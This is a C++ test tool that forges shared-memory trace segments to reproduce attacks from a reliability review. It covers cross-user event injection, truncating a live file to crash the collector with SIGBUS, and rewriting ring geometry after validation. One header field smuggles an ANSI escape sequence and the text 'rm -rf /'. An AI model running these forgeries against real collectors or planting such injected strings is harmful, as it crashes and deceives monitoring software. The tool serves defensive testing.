// Reproduces the attacks of the reliability review on what the collector trusts in a segment:
//   forge_segment NAME ACTION [PERMS]
// creates /dev/shm/NAME (permission bits PERMS, octal, default 0666) holding a valid segment
// header and one forged event, as the review's forge.cpp does. ACTION:
//   inject    write it and exit: run as another local user, the injection of review §6
//   truncate  hold the liveness lock as a live producer does, wait until a collector drained the
//             event, then shrink the file to 0 bytes and exit (review §8, SIGBUS)
//   geometry  as truncate, but rewrite the ring count and capacities after validation (review §8)
// With FORGE_COMM_SIZE set, the event is an all-reduce of that communicator size (review §9).
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

#include "trainshim/clock.hpp"
#include "trainshim/names.hpp"
#include "trainshim/protocol.hpp"
#include "trainshim/ring.hpp"

using namespace trainshim;

int main(int argc, char** argv) {
  if (argc < 3) {
    std::fprintf(stderr, "usage: %s NAME inject|truncate|geometry [PERMS]\n", argv[0]);
    return 2;
  }
  const std::string path = std::string(kShmDir) + "/" + argv[1];
  const std::string action = argv[2];
  const mode_t perms = argc > 3 ? mode_t(std::strtoul(argv[3], nullptr, 8)) : 0666;
  const int fd = open(path.c_str(), O_RDWR | O_CREAT | O_EXCL | O_CLOEXEC, perms);
  if (fd < 0 || fchmod(fd, perms) != 0) {
    std::perror(path.c_str());
    return 1;
  }
  const uint32_t rings = 1, capacity = 4, side = 1;
  const uint64_t bytes = segment_bytes(rings, capacity, capacity, side);
  if (ftruncate(fd, off_t(bytes)) != 0) {
    std::perror("ftruncate");
    return 1;
  }
  auto* h = static_cast<SegmentHeader*>(mmap(nullptr, bytes, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0));
  if (h == MAP_FAILED) {
    std::perror("mmap");
    return 1;
  }
  init_segment_header(*h, rings, capacity, capacity, side,
                      {.pid = getpid(),
                       .rank = 0,
                       .local_rank = 0,
                       .world_size = 1,
                       .clock_kind = kClockKind,
                       .anchor_monotonic_ns = clock_ns(CLOCK_MONOTONIC),
                       .anchor_ticks = ticks(),
                       .anchor_realtime_ns = clock_ns(CLOCK_REALTIME),
                       .host = "FORGED-HOST",
                       .job = "forged",
                       .command = "\033[31mFORGED\033[0m rm -rf / # injected by another user"});
  EventRecord r{};
  if (const char* comm_size = std::getenv("FORGE_COMM_SIZE")) {
    r.api = uint16_t(Api::ncclAllReduce);
    r.sequence = 1;
    r.object = 7;
    r.comm_size = uint32_t(std::strtoul(comm_size, nullptr, 0));
  } else {
    r.api = uint16_t(Api::cudaMemcpy);
    r.bytes = 1337ull << 30;
    r.direction = uint8_t(Direction::HostToDevice);
    r.host_memory = uint8_t(HostMemory::Pageable);
  }
  r.begin_ticks = ticks();
  r.end_ticks = r.begin_ticks + 1000;
  r.tid = 4242;
  ring_of(h, 0).push(r);
  if (action != "inject") {
    struct flock lock {};
    lock.l_type = F_RDLCK;
    lock.l_len = 1;
    if (fcntl(fd, F_SETLK, &lock) != 0) {
      std::perror("liveness lock");
      return 1;
    }
  }
  h->producer_state.store(uint32_t(ProducerState::Live), std::memory_order_release);
  std::printf("forged %s\n", path.c_str());
  std::fflush(stdout);
  if (action == "inject") return 0;
  for (int i = 0; i < 6000 && ring_of(h, 0).pending() != 0; ++i) usleep(10000);
  if (ring_of(h, 0).pending() != 0) {
    std::fprintf(stderr, "no collector drained %s\n", path.c_str());
    return 1;
  }
  if (action == "truncate" && ftruncate(fd, 0) != 0) {
    std::perror("ftruncate");
    return 1;
  }
  if (action == "geometry") {
    h->first_ring_capacity = kMaxRingCapacity;
    h->ring_capacity = kMaxRingCapacity;
    h->ring_count = kMaxRings;
  }
  std::printf("done %s\n", action.c_str());
  return 0;
}
